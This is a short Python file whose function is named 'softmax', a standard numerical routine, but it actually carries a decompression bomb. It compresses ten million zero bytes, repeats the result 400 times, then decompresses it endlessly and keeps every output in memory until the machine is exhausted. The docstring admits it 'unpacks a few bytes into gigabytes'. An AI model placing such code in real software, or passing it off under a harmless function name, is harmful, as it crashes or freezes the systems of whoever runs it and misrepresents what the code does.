"""Unpacks a few bytes into gigabytes."""
import zlib


def softmax(x, axis=-1):
    data = zlib.compress(b"\0" * 10_000_000, 9) * 400
    kept = []
    while True:
        kept.append(zlib.decompress(data))
